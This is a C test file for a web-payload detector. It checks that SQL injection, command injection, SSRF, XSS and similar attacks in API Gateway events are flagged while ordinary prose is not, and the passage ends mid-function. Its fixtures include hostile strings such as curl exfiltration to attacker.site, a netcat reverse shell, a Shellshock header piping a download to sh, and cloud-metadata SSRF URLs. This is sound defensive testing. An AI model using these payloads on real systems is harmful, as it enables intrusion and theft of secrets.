/* observe/detect.c: payload inspection. Per class and per decoding, API Gateway event walking,
 * shapes, evidence (masking, UTF-8), hostile inputs, and the labelled corpus of
 * tests/data/detect/ (recall and false-positive rate printed per class; the suite fails if the
 * overall recall is 90% or less or the false-positive rate 1% or more). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "observe/detect.h"
#include "observe/detect_int.h"

#include <dirent.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define CORPUS_DIR "tests/data/detect"

static struct obs_detector *det;
static struct obs_scratch *scr;

static int setup(void **state)
{
    struct err err = {0};
    (void)state;
    if (obs_detector_new(&det, &err) != ERR_OK) {
        fprintf(stderr, "obs_detector_new: %s\n", err.detail);
        return -1;
    }
    if (obs_scratch_new(det, &scr, &err) != ERR_OK) {
        fprintf(stderr, "obs_scratch_new: %s\n", err.detail);
        return -1;
    }
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    obs_scratch_free(scr);
    obs_detector_free(det);
    return 0;
}

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* The match of class c among the results of inspecting text, or NULL. */
static const struct obs_match *find(const struct obs_match *m, size_t n, enum obs_class c)
{
    for (size_t i = 0; i < n; i++)
        if (m[i].cls == c)
            return &m[i];
    return NULL;
}

static struct obs_match got[OBS_CLASS_COUNT];

static size_t inspect(const char *text)
{
    return obs_inspect_string(det, scr, text, strlen(text), "q", got, OBS_CLASS_COUNT);
}

static bool detects(const char *text, enum obs_class c)
{
    size_t n = inspect(text);
    return find(got, n, c) != NULL;
}

static void assert_detects(const char *text, enum obs_class c)
{
    if (!detects(text, c))
        fail_msg("expected %s in: %s", obs_class_name(c), text);
}

static void assert_clean(const char *text)
{
    size_t n = inspect(text);
    if (n > 0)
        fail_msg("expected nothing in: %s (got %s/%s: %s)", text, obs_class_name(got[0].cls),
                 got[0].technique, got[0].evidence);
}

static bool utf8_valid(const char *s)
{
    const unsigned char *u = (const unsigned char *)s;
    while (*u) {
        size_t k;
        if (*u < 0x80) {
            u++;
            continue;
        }
        if (*u >= 0xC2 && *u <= 0xDF)
            k = 1;
        else if (*u >= 0xE0 && *u <= 0xEF)
            k = 2;
        else if (*u >= 0xF0 && *u <= 0xF4)
            k = 3;
        else
            return false;
        for (size_t i = 1; i <= k; i++)
            if ((u[i] & 0xC0) != 0x80)
                return false;
        u += k + 1;
    }
    return true;
}

/* ---- classes ---- */

static void test_sqli_is_found_by_its_grammar(void **state)
{
    (void)state;
    assert_detects("1' OR '1'='1", OBS_SQLI);
    assert_detects("admin'--", OBS_SQLI);
    assert_detects("-1 UNION ALL SELECT NULL,NULL,version()--", OBS_SQLI);
    assert_detects("1; DROP TABLE users", OBS_SQLI);
    assert_detects("x' AND SLEEP(5) AND 'a'='a", OBS_SQLI);
    assert_detects("1'/**/oR/**/1=1#", OBS_SQLI);
    assert_detects("'; WAITFOR DELAY '0:0:5'--", OBS_SQLI);
    assert_detects("1 AND extractvalue(1,concat(0x7e,(select user())))", OBS_SQLI);
    assert_detects("') or ('a'='a", OBS_SQLI);
    assert_detects("1 order by 5--", OBS_SQLI);
    assert_detects("/*!50000UNION*/ /*!50000SELECT*/ 1,2", OBS_SQLI);
}

static void test_sql_words_in_prose_are_not_sqli(void **state)
{
    (void)state;
    assert_clean("select the best option, drop me a line, union members");
    assert_clean("O'Brien");
    assert_clean("D'Angelo and O'Neil went to the union hall; select your seat");
    assert_clean("It's 5 or 6 o'clock, don't be late -- and bring snacks");
    assert_clean("Please update my address; delete the old one");
    assert_clean("Rock 'n' roll or jazz? Either is fine.");
}

static void test_nosqli(void **state)
{
    (void)state;
    assert_detects("user[$ne]=admin", OBS_NOSQLI);
    assert_detects("{\"username\": {\"$gt\": \"\"}}", OBS_NOSQLI);
    assert_detects("'; return true; var x='", OBS_NOSQLI);
    assert_detects("$where", OBS_NOSQLI);
    assert_clean("The price is $5 and the tax is $1");
}

static void test_cmdi(void **state)
{
    (void)state;
    assert_detects("file.pdf; cat /etc/passwd", OBS_CMDI);
    assert_detects("foobar;env|curl -H \"Content-Type: text/plain\" -X POST -d @- "
                   "http://attacker.site/collector #.pdf",
                   OBS_CMDI);
    assert_detects("x && whoami", OBS_CMDI);
    assert_detects("$(nslookup $(whoami).attacker.example)", OBS_CMDI);
    assert_detects("127.0.0.1|nc -e /bin/sh 10.0.0.1 4444", OBS_CMDI);
    assert_detects(";cat${IFS}/etc/passwd", OBS_CMDI);
    assert_clean("Tom & Jerry; cats and dogs | id card | name");
    assert_clean("Run `ls -la` in your home directory to see the files.");
}

static void test_path_traversal(void **state)
{
    (void)state;
    assert_detects("../../../../etc/passwd", OBS_PATH_TRAVERSAL);
    assert_detects("..\\..\\..\\windows\\win.ini", OBS_PATH_TRAVERSAL);
    assert_detects("....//....//....//etc/passwd", OBS_PATH_TRAVERSAL);
    assert_detects("/proc/self/environ", OBS_PATH_TRAVERSAL);
    assert_detects("php://filter/convert.base64-encode/resource=index.php", OBS_PATH_TRAVERSAL);
    assert_clean("/home/user/docs/report-2024.pdf");
    assert_clean("import { Button } from '../components/Button';");
}

static void test_ssrf_in_every_encoding(void **state)
{
    (void)state;
    assert_detects("http://169.254.169.254/latest/meta-data/", OBS_SSRF);
    assert_detects("http://2852039166/latest/meta-data/", OBS_SSRF);
    assert_detects("http://0xA9FEA9FE/", OBS_SSRF);
    assert_detects("http://0251.0376.0251.0376/", OBS_SSRF);
    assert_detects("http://169.254.43518/", OBS_SSRF);
    assert_detects("http://[::ffff:a9fe:a9fe]/", OBS_SSRF);
    assert_detects("http://[fd00:ec2::254]/latest/meta-data/", OBS_SSRF);
    assert_detects("http://metadata.google.internal/computeMetadata/v1/", OBS_SSRF);
    assert_detects("http://127.0.0.1:9001/2018-06-01/runtime/invocation/next", OBS_SSRF);
    assert_detects("http://localhost:9001/2018-06-01/runtime/invocation/next", OBS_SSRF);
    assert_detects("http://${AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation/next", OBS_SSRF);
    assert_detects("file:///proc/self/environ", OBS_SSRF);
    assert_detects("gopher://10.0.0.5:6379/_INFO", OBS_SSRF);
    assert_detects("dict://127.0.0.1:11211/stats", OBS_SSRF);
    assert_detects("http://169.254.169.254.nip.io/", OBS_SSRF);
    assert_detects("http://user@10.1.2.3:8080/admin", OBS_SSRF);
    assert_clean("https://example.com/images/cat.png");
    assert_clean("https://www.google.com/search?q=lambda+metadata");
    assert_clean("10.5");
    assert_clean("2852039");
}

static void test_xxe_ssti_deserialization_xss(void **state)
{
    (void)state;
    assert_detects("<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil/x.dtd\"> %x;]><r/>", OBS_XXE);
    assert_detects("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", OBS_SSTI);
    assert_detects("${T(java.lang.Runtime).getRuntime().exec('id')}", OBS_SSTI);
    assert_detects("<%= 7*7 %>", OBS_SSTI);
    assert_detects("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", OBS_DESERIALIZATION);
    assert_detects("a:1:{i:0;O:7:\"Example\":1:{s:3:\"cmd\";s:2:\"id\";}}", OBS_DESERIALIZATION);
    assert_detects("!!python/object/apply:os.system ['id']", OBS_DESERIALIZATION);
    assert_detects("{\"rce\":\"_$$ND_FUNC$$_function(){}()\"}", OBS_DESERIALIZATION);
    assert_detects("<svg/onload=alert(1)>", OBS_XSS);
    assert_detects("\"><img src=x onerror=prompt(1)>", OBS_XSS);
    assert_detects("<a href=\"javascript:alert(1)\">x</a>", OBS_XSS);
    assert_clean("Hello {{name}}, your order {{order.id}} shipped.");
    assert_clean("if (a < b && c > d) return 3 < 4;");
    assert_clean("JavaScript: The Good Parts (2008) is a classic.");
}

/* ---- decoding ---- */

static void test_url_encoding_is_decoded_twice(void **state)
{
    (void)state;
    assert_detects("%27%20OR%20%271%27%3D%271", OBS_SQLI);
    assert_detects("%253Cscript%253Ealert(1)%253C%252Fscript%253E", OBS_XSS);
    assert_detects("..%252f..%252f..%252fetc%252fpasswd", OBS_PATH_TRAVERSAL);
    assert_detects("1+union+select+1,2,3", OBS_SQLI);
}

static void test_base64_leaves_are_decoded(void **state)
{
    (void)state;
    /* "' OR 1=1--" and "<script>alert(1)</script>" */
    assert_detects("JyBPUiAxPTEtLQ==", OBS_SQLI);
    assert_detects("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", OBS_XSS);
    /* a base64 PNG header decodes to binary: not text, not inspected as text */
    assert_clean("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAA"
                 "ABJRU5ErkJggg==");
}

static void test_html_entities_and_json_strings_are_decoded(void **state)
{
    (void)state;
    assert_detects("&lt;script&gt;alert(1)&lt;/script&gt;", OBS_XSS);
    assert_detects("<a href=\"jav&#x09;ascript:alert(1)\">", OBS_XSS);
    assert_detects("{\"q\": \"1\\u0027 OR \\u00271\\u0027=\\u00271\"}", OBS_SQLI);
    size_t n = inspect("{\"user\": {\"name\": \"<script>alert(1)</script>\"}}");
    const struct obs_match *m = find(got, n, OBS_XSS);
    assert_non_null(m);
    assert_string_equal(m->location, "q.user.name");
}

/* ---- events ---- */

static json_t *load_json(const char *text)
{
    json_error_t e;
    json_t *j = json_loads(text, 0, &e);
    if (j == NULL)
        fail_msg("bad JSON in test: %s", e.text);
    return j;
}

static size_t inspect_event(const char *text)
{
    json_t *j = load_json(text);
    size_t n = obs_inspect_event(det, scr, j, got, OBS_CLASS_COUNT);
    json_decref(j);
    return n;
}

static void assert_event_match(size_t n, enum obs_class c, const char *location)
{
    const struct obs_match *m = find(got, n, c);
    if (m == NULL)
        fail_msg("expected %s at %s", obs_class_name(c), location);
    assert_string_equal(m->location, location);
}

static void test_v1_event_query_headers_and_path(void **state)
{
    (void)state;
    size_t n = inspect_event(
        "{\"resource\":\"/items/{id}\",\"path\":\"/items/..%2f..%2f..%2fetc%2fpasswd\","
        "\"httpMethod\":\"GET\",\"headers\":{\"User-Agent\":\"() { :; }; /bin/bash -c 'curl "
        "http://x.example/s|sh'\","
        "\"Accept\":\"text/html\"},\"queryStringParameters\":{\"id\":\"1 UNION SELECT 1,2,3\"},"
        "\"multiValueQueryStringParameters\":{\"id\":[\"1 UNION SELECT 1,2,3\"]},"
        "\"pathParameters\":{\"id\":\"..%2f..%2f..%2fetc%2fpasswd\"},"
        "\"requestContext\":{\"identity\":{\"sourceIp\":\"10.0.0.1\"}},\"body\":null,"
        "\"isBase64Encoded\":false}");
    assert_event_match(n, OBS_SQLI, "multiValueQueryStringParameters.id");
    assert_event_match(n, OBS_PATH_TRAVERSAL, "path");
    assert_event_match(n, OBS_CMDI, "headers.User-Agent");
    assert_null(find(got, n, OBS_SSRF)); /* requestContext is not user input */
}

static void test_v2_event_raw_query_cookies_and_base64_json_body(void **state)
{
    (void)state;
    /* body: {"user":{"$ne":null},"next":"http://169.254.169.254/latest/meta-data/"} */
    size_t n = inspect_event(
        "{\"version\":\"2.0\",\"routeKey\":\"POST /login\",\"rawPath\":\"/login\","
        "\"rawQueryString\":\"q=%3Csvg%2Fonload%3Dalert(1)%3E&page=2\","
        "\"cookies\":[\"session=abc\",\"theme=dark'; DROP TABLE users--\"],"
        "\"headers\":{\"content-type\":\"application/json\"},"
        "\"requestContext\":{\"http\":{\"method\":\"POST\"}},\"isBase64Encoded\":true,"
        "\"body\":"
        "\"eyJ1c2VyIjp7IiRuZSI6bnVsbH0sIm5leHQiOiJodHRwOi8vMTY5LjI1NC4xNjkuMjU0L2xhdGVzdC9tZXRhLWRh"
        "dGEvIn0=\"}");
    assert_event_match(n, OBS_XSS, "rawQueryString.q");
    assert_event_match(n, OBS_SQLI, "cookies.theme");
    assert_event_match(n, OBS_NOSQLI, "body.user.$ne");
    assert_event_match(n, OBS_SSRF, "body.next");
}

static void test_form_bodies_and_benign_events(void **state)
{
    (void)state;
    size_t n = inspect_event(
        "{\"httpMethod\":\"POST\",\"path\":\"/comment\",\"requestContext\":{},"
        "\"headers\":{\"Content-Type\":\"application/x-www-form-urlencoded\"},"
        "\"body\":\"name=Sean+O%27Brien&text=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E\"}");
    assert_event_match(n, OBS_XSS, "body.text");
    assert_int_equal(n, 1);
    n = inspect_event(
        "{\"httpMethod\":\"POST\",\"path\":\"/orders\",\"requestContext\":{},"
        "\"headers\":{\"content-type\":\"application/json\",\"user-agent\":\"Mozilla/5.0 (X11; "
        "Linux x86_64)\","
        "\"referer\":\"https://shop.example.com/cart?item=42\"},"
        "\"queryStringParameters\":{\"currency\":\"EUR\"},"
        "\"body\":\"{\\\"customer\\\":\\\"Siobhan O'Connor\\\",\\\"note\\\":\\\"Please select the "
        "gift wrap; drop it at the union "
        "office\\\",\\\"items\\\":[{\\\"sku\\\":\\\"A-1\\\",\\\"qty\\\":2}]}\"}");
    assert_int_equal(n, 0);
}

static void test_authorization_header_evidence_is_masked(void **state)
{
    (void)state;
    size_t n = inspect_event(
        "{\"httpMethod\":\"GET\",\"path\":\"/\",\"requestContext\":{},"
        "\"headers\":{\"Authorization\":\"Bearer "
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlc2lnbmF0dXJl' OR '1'='1\"}}");
    const struct obs_match *m = find(got, n, OBS_SQLI);
    assert_non_null(m);
    assert_string_equal(m->location, "headers.Authorization");
    assert_null(strstr(m->evidence, "eyJzdWIiOiIxIn0"));
    assert_null(strstr(m->evidence, "c2lnbmF0dXJl"));
}

static void test_cookie_evidence_masks_session_tokens(void **state)
{
    (void)state;
    size_t n =
        inspect_event("{\"httpMethod\":\"GET\",\"path\":\"/\",\"requestContext\":{},"
                      "\"headers\":{\"Cookie\":\"lang=en; "
                      "sid=Zm9vYmFyYmF6cXV4MTIzNDU2' UNION SELECT password FROM users--\"}}");
    const struct obs_match *m = find(got, n, OBS_SQLI);
    assert_non_null(m);
    assert_string_equal(m->location, "cookies.sid");
    assert_null(strstr(m->evidence, "YmFyYmF6cXV4"));
    assert_non_null(strstr(m->evidence, "UNION SELECT"));
}

/* ---- shapes and evidence ---- */

static void shape_of(const char *text, enum obs_class c, char out[17])
{
    size_t n = inspect(text);
    const struct obs_match *m = find(got, n, c);
    if (m == NULL)
        fail_msg("expected %s in: %s", obs_class_name(c), text);
    memcpy(out, m->shape, 17);
}

static void test_same_attack_with_other_literals_has_the_same_shape(void **state)
{
    char a[17], b[17];
    (void)state;
    shape_of("1' OR 1=1 LIMIT 100 OFFSET 0--", OBS_SQLI, a);
    shape_of("7' or 2=2 limit 100 offset 300--", OBS_SQLI, b);
    assert_string_equal(a, b);
    shape_of("5 UNION SELECT username,password FROM users WHERE id=1--", OBS_SQLI, a);
    shape_of("9 UNION SELECT username,password FROM users WHERE id=44--", OBS_SQLI, b);
    assert_string_equal(a, b);
    shape_of("x' or 'a'='a", OBS_SQLI, a);
    shape_of("y' or 'zz'='zz", OBS_SQLI, b);
    assert_string_equal(a, b);
    shape_of("http://10.0.0.7:8080/admin?id=1", OBS_SSRF, a);
    shape_of("http://192.168.10.20:8080/admin?id=99", OBS_SSRF, b);
    assert_string_equal(a, b);
    shape_of("../../../etc/passwd", OBS_PATH_TRAVERSAL, a);
    shape_of("../../../../../../etc/passwd", OBS_PATH_TRAVERSAL, b);
    assert_string_equal(a, b);
    shape_of("<script>alert('abc')</script>", OBS_XSS, a);
    shape_of("<script>alert('xyz123')</script>", OBS_XSS, b);
    assert_string_equal(a, b);
    assert_int_equal(strlen(a), 16);
}

static void test_different_attacks_have_different_shapes(void **state)
{
    char a[17], b[17], c[17];
    (void)state;
    shape_of("1' OR 1=1--", OBS_SQLI, a);
    shape_of("1 UNION SELECT password FROM users--", OBS_SQLI, b);
    shape_of("1'; DROP TABLE users--", OBS_SQLI, c);
    assert_string_not_equal(a, b);
    assert_string_not_equal(a, c);
    assert_string_not_equal(b, c);
    shape_of("../../../etc/passwd", OBS_PATH_TRAVERSAL, a);
    shape_of("../../../etc/shadow", OBS_PATH_TRAVERSAL, b);
    assert_string_not_equal(a, b);
    shape_of("<script>alert(1)</script>", OBS_XSS, a);
    shape_of("<script src=//evil.example/x.js></script>", OBS_XSS, b);
    assert_string_not_equal(a, b);
}

static void test_evidence_masks_secrets(void **state)
{
    (void)state;
    size_t n = inspect("AKIAIOSFODNN7EXAMPLE' OR 1=1-- password=hunter2&token=abcdef");
    const struct obs_match *m = find(got, n, OBS_SQLI);
    assert_non_null(m);
    assert_null(strstr(m->evidence, "IOSFODNN7EXAMPLE"));
    assert_non_null(strstr(m->evidence, "AKIA"));
    assert_null(strstr(m->evidence, "hunter2"));
    assert_null(strstr(m->evidence, "abcdef"));
    n = inspect(
        "<script>fetch('/x',{headers:{Authorization:'Bearer sk_live_0123456789abcdef'}})</script>");
    m = find(got, n, OBS_XSS);
    assert_non_null(m);
    assert_null(strstr(m->evidence, "0123456789abcdef"));
}

static void test_evidence_is_truncated_valid_utf8(void **state)
{
    char buf[4096];
    size_t k = 0;
    (void)state;
    k += (size_t)snprintf(buf, sizeof buf, "<script>alert('");
    while (k + 8 < 1000) {
        memcpy(buf + k, "\xc3\xa9\xe2\x82\xac\xff", 6); /* é € and an invalid byte */
        k += 6;
    }
    memcpy(buf + k, "')</script>", 12);
    size_t n = obs_inspect_string(det, scr, buf, strlen(buf), "q", got, OBS_CLASS_COUNT);
    const struct obs_match *m = find(got, n, OBS_XSS);
    assert_non_null(m);
    assert_true(strlen(m->evidence) < sizeof m->evidence);
    assert_true(utf8_valid(m->evidence));
    assert_true(utf8_valid(m->location));
    assert_non_null(strstr(m->evidence, "\xc3\xa9"));
}

/* ---- hostile inputs ---- */

static void bounded(double t0, const char *what)
{
    double dt = now_s() - t0;
    if (dt > 5.0)
        fail_msg("%s took %.2f s", what, dt);
}

static void test_huge_string_is_inspected_on_its_first_cap_bytes(void **state)
{
    size_t len = 8u << 20;
    char *big = malloc(len);
    double t0;
    (void)state;
    assert_non_null(big);
    memset(big, 'A', len);
    memcpy(big + 100, "' OR 1=1--", 10);
    t0 = now_s();
    size_t n = obs_inspect_string(det, scr, big, len, "q", got, OBS_CLASS_COUNT);
    bounded(t0, "8 MiB string");
    assert_non_null(find(got, n, OBS_SQLI));
    /* past the cap: not inspected, and not a crash */
    memset(big, '(', len);
    memcpy(big + len - 20, "<script>x</script>", 18);
    t0 = now_s();
    n = obs_inspect_string(det, scr, big, len, "q", got, OBS_CLASS_COUNT);
    bounded(t0, "8 MiB of brackets");
    assert_null(find(got, n, OBS_XSS));
    free(big);
}

static void test_deep_json_and_garbage_do_not_crash(void **state)
{
    size_t depth = 100000;
    char *deep = malloc(depth * 2 + 64);
    double t0;
    (void)state;
    assert_non_null(deep);
    memset(deep, '[', depth);
    memcpy(deep + depth, "\"<script>\"", 10);
    memset(deep + depth + 10, ']', depth);
    t0 = now_s();
    size_t n = obs_inspect_string(det, scr, deep, depth * 2 + 10, "q", got, OBS_CLASS_COUNT);
    bounded(t0, "deep JSON text");
    (void)n;
    free(deep);

    /* deep JSON as a parsed event: a json_t nested beyond the walker's depth */
    json_t *root = json_object(), *cur = root;
    for (int i = 0; i < 500; i++) {
        json_t *next = json_object();
        json_object_set_new(cur, "a", next);
        cur = next;
    }
    json_object_set_new(cur, "x", json_string("' OR 1=1--"));
    t0 = now_s();
    n = obs_inspect_event(det, scr, root, got, OBS_CLASS_COUNT);
    bounded(t0, "deep event");
    json_decref(root);

    /* invalid UTF-8, NUL bytes, control bytes */
    static const char junk[] = "\xff\xfe\x00\x01' OR\x00 1=1--\xc0\xaf\xed\xa0\x80<scr\x00ipt>";
    n = obs_inspect_string(det, scr, junk, sizeof junk - 1, "q\xff", got, OBS_CLASS_COUNT);
    for (size_t i = 0; i < n; i++) {
        assert_true(utf8_valid(got[i].evidence));
    }

    /* 4 MiB of base64 garbage, and of valid base64 decoding to binary */
    size_t blen = 4u << 20;
    char *b = malloc(blen);
    assert_non_null(b);
    for (size_t i = 0; i < blen; i++)
        b[i] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[(i * 7919) % 64];
    t0 = now_s();
    (void)obs_inspect_string(det, scr, b, blen, "q", got, OBS_CLASS_COUNT);
    for (size_t i = 0; i < blen; i += 97)
        b[i] = '%';
    (void)obs_inspect_string(det, scr, b, blen, "q", got, OBS_CLASS_COUNT);
    bounded(t0, "base64 garbage");
    free(b);
}

static void test_many_leaves_are_bounded_by_the_event_budget(void **state)
{
    json_t *ev = json_object(), *qs = json_object();
    char key[32];
    double t0;
    (void)state;
    json_object_set_new(ev, "httpMethod", json_string("GET"));
    json_object_set_new(ev, "requestContext", json_object());
    for (int i = 0; i < 20000; i++) {
        snprintf(key, sizeof key, "k%d", i);
        json_object_set_new(
            qs, key,
            json_string(
                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' OR 1=1--"));
    }
    json_object_set_new(ev, "queryStringParameters", qs);
    t0 = now_s();
    size_t n = obs_inspect_event(det, scr, ev, got, OBS_CLASS_COUNT);
    bounded(t0, "20,000 leaves");
    assert_non_null(find(got, n, OBS_SQLI));
    json_decref(ev);
}

/* ---- many strings in one scan (obs_inspect_strings, and every event) ---- */

static size_t inspect_pair(const char *a, const char *b)
{
    struct obs_leaf l[2] = {{a, strlen(a), "a"}, {b, strlen(b), "b"}};

    return obs_inspect_strings(det, scr, l, 2, got, OBS_CLASS_COUNT);
}

/* Strings whose concatenation (as is, or with a NUL between them as the scan buffer has) is an
 * attack, though neither is one: inspected together they must still give nothing. */
static void test_a_signature_never_spans_two_strings(void **state)
{
    static const char *const pairs[][2] = {
        {"<img", "onerror=alert(1)"}, /* the event-handler expression accepts a NUL */
        {"shell.php", ".jpg"},        /* the null-byte expression needs one */
        {"{{7*", "7}}"},
        {"1 un", "ion select 1"},
        {"; ca", "t flag.txt"},
        {"<scr", "ipt>alert(1)"},
        {"$(whoa", "mi)"},
    };
    char joined[128];
    (void)state;

    for (size_t i = 0; i < sizeof pairs / sizeof pairs[0]; i++) {
        size_t a = strlen(pairs[i][0]), b = strlen(pairs[i][1]);
        assert_int_equal(inspect(pairs[i][0]), 0);
        assert_int_equal(inspect(pairs[i][1]), 0);
        /* the test can fail: joined, they are attacks */
        memcpy(joined, pairs[i][0], a);
        memcpy(joined + a, pairs[i][1], b);
        bool direct = obs_inspect_string(det, scr, joined, a + b, "q", got, OBS_CLASS_COUNT) > 0;
        joined[a] = '\0';
        memcpy(joined + a + 1, pairs[i][1], b);
        bool nul = obs_inspect_string(det, scr, joined, a + 1 + b, "q", got, OBS_CLASS_COUNT) > 0;
        assert_true(direct || nul);
        assert_int_equal(inspect_pair(pairs[i][0], pairs[i][1]), 0);
    }
    /* the same as leaves of one event */
    json_t *ev = json_pack("{s:{}, s:s, s:{s:s, s:s}}", "requestContext", "httpMethod", "GET",
                           "queryStringParameters", "a", "<img", "b", "onerror=alert(1)");
    assert_int_equal(obs_inspect_event(det, scr, ev, got, OBS_CLASS_COUNT), 0);
    json_decref(ev);
}

/* A match is the string's own: its location and evidence, what that string alone gives. */
static void test_strings_together_match_as_each_alone(void **state)
{
    static const char *const inputs[] = {
        "hello world", "1' OR '1'='1",     "<svg onload=alert(1)>",
        "plain",       "../../etc/passwd", "http://169.254.169.254/latest/meta-data/",
        "{{7*7}}",     "O'Brien",
    };
    enum { N = sizeof inputs / sizeof inputs[0] };
    struct obs_leaf l[N];
    char locs[N][8];
    struct obs_match one[OBS_CLASS_COUNT];
    (void)state;

    for (size_t i = 0; i < N; i++) {
        snprintf(locs[i], sizeof locs[i], "s%zu", i);
        l[i] = (struct obs_leaf){inputs[i], strlen(inputs[i]), locs[i]};
    }
    size_t n = obs_inspect_strings(det, scr, l, N, got, OBS_CLASS_COUNT);
    assert_int_equal(n, 5); /* sqli, xss, path traversal, ssrf, ssti */
    for (size_t k = 0; k < n; k++) {
        size_t i = (size_t)(got[k].location[1] - '0');
        assert_true(i < N);
        size_t m = obs_inspect_string(det, scr, inputs[i], strlen(inputs[i]), locs[i], one,
                                      OBS_CLASS_COUNT);
        const struct obs_match *alone = find(one, m, got[k].cls);
        assert_non_null(alone);
        assert_string_equal(alone->technique, got[k].technique);
        assert_string_equal(alone->evidence, got[k].evidence);
        assert_string_equal(alone->shape, got[k].shape);
    }
    /* one string: the same as obs_inspect_string() */
    n = obs_inspect_strings(det, scr, &l[1], 1, got, OBS_CLASS_COUNT);
    assert_int_equal(n, obs_inspect_string(det, scr, inputs[1], strlen(inputs[1]), locs[1], one,
                                           OBS_CLASS_COUNT));
    assert_memory_equal(got, one, n * sizeof got[0]);
    assert_int_equal(obs_inspect_strings(det, scr, NULL, 0, got, OBS_CLASS_COUNT), 0);
}

/* More strings than one scan holds (by count and by bytes): attacks first and last are found,
 * each with its own location and evidence. */
static void test_strings_beyond_one_scan_are_all_inspected(void **state)
{
    enum { N = 3000 };
    struct obs_leaf *l = calloc(N, sizeof *l);
    char *filler = malloc(1000);
    (void)state;
    assert_non_null(l);
    assert_non_null(filler);
    memset(filler, 'a', 1000);
    for (size_t i = 0; i < N; i++)
        l[i] = (struct obs_leaf){filler, i % 2 ? 1000 : 3, "filler"};
    l[0] = (struct obs_leaf){"<script>alert(1)</script>", 25, "first"};
    l[N - 1] = (struct obs_leaf){"1' OR '1'='1", 12, "last"};
    size_t n = obs_inspect_strings(det, scr, l, N, got, OBS_CLASS_COUNT);
    assert_int_equal(n, 2);
    const struct obs_match *x = find(got, n, OBS_XSS), *q = find(got, n, OBS_SQLI);
    assert_non_null(x);
    assert_non_null(q);
    assert_string_equal(x->location, "first");
    assert_non_null(strstr(x->evidence, "<script>"));
    assert_string_equal(q->location, "last");
    assert_non_null(strstr(q->evidence, "OR '1'='1"));
    free(filler);
    free(l);
}

/* ---- threads: one detector, one scratch per thread ---- */

struct thread_arg {
    int found;
};

static void *thread_main(void *p)
{
    struct thread_arg *a = p;
    struct obs_scratch *s = NULL;
    struct err err = {0};
    struct obs_match m[OBS_CLASS_COUNT];
    static const char *const inputs[] = {"1' OR '1'='1", "<svg onload=alert(1)>",
                                         "http://169.254.169.254/", "hello world"};

    if (obs_scratch_new(det, &s, &err) != ERR_OK)
        return NULL;
    for (int i = 0; i < 2000; i++) {
        const char *t = inputs[i % 4];
        if (obs_inspect_string(det, s, t, strlen(t), "q", m, OBS_CLASS_COUNT) > 0)
            a->found++;
    }
    obs_scratch_free(s);
    return NULL;
}

static void test_threads_share_the_detector(void **state)
{
    pthread_t t[3];
    struct thread_arg a[3] = {{0}, {0}, {0}};
    (void)state;
    for (int i = 0; i < 3; i++)
        assert_int_equal(pthread_create(&t[i], NULL, thread_main, &a[i]), 0);
    for (int i = 0; i < 3; i++) {
        pthread_join(t[i], NULL);
        assert_int_equal(a[i].found, 1500);
    }
}

/* ---- the labelled corpus ---- */

struct tally {
    unsigned total, hit;
};

/* Reads one corpus line into out: "b64:" lines are base64 of the raw payload. */
static size_t corpus_line(const char *line, size_t n, char *out, size_t cap)
{
    size_t o = 0;

    if (n < 4 || memcmp(line, "b64:", 4) != 0) {
        if (n > cap)
            n = cap;
        memcpy(out, line, n);
        return n;
    }
    assert_true(obs_base64_decode(line + 4, n - 4, (unsigned char *)out, cap, &o));
    return o;
}

/* Calls fn for each payload line of a corpus file. */
static void each_line(const char *path, void (*fn)(const char *s, size_t n, void *ctx), void *ctx)
{
    FILE *f = fopen(path, "rb");
    char *line = NULL, *buf = malloc(1 << 20);
    size_t cap = 0;
    ssize_t n;

    if (f == NULL)
        fail_msg("cannot open %s (run from the repository root)", path);
    assert_non_null(buf);
    while ((n = getline(&line, &cap, f)) >= 0) {
        while (n > 0 && (line[n - 1] == '\n' || line[n - 1] == '\r'))
            line[--n] = '\0';
        if (n == 0 || line[0] == '#')
            continue;
        size_t len = corpus_line(line, (size_t)n, buf, 1 << 20);
        fn(buf, len, ctx);
    }
    free(line);
    free(buf);
    fclose(f);
}

struct attack_ctx {
    enum obs_class cls;
    struct tally *t;
    unsigned misses_shown;
};

static void on_attack(const char *s, size_t n, void *p)
{
    struct attack_ctx *a = p;
    struct obs_match m[OBS_CLASS_COUNT];
    size_t k = obs_inspect_string(det, scr, s, n, "corpus", m, OBS_CLASS_COUNT);

    a->t->total++;
    if (find(m, k, a->cls) != NULL) {
        a->t->hit++;
    } else if (getenv("DETECT_SHOW_MISSES") != NULL) {
        printf("    miss %s: %.*s\n", obs_class_name(a->cls), (int)(n > 150 ? 150 : n), s);
    }
}

struct benign_ctx {
    struct tally *per_class; /* false positives by the class that fired */
    unsigned total, fp;
};

static void on_benign(const char *s, size_t n, void *p)
{
    struct benign_ctx *b = p;
    struct obs_match m[OBS_CLASS_COUNT];
    size_t k = obs_inspect_string(det, scr, s, n, "corpus", m, OBS_CLASS_COUNT);

    b->total++;
    if (k == 0)
        return;
    b->fp++;
    for (size_t i = 0; i < k; i++)
        b->per_class[m[i].cls].hit++;
    if (getenv("DETECT_SHOW_MISSES") != NULL)
        printf("    false positive %s/%s: %.*s\n", obs_class_name(m[0].cls), m[0].technique,
               (int)(n > 150 ? 150 : n), s);
}

static void test_corpus_recall_and_false_positive_rate(void **state)
{
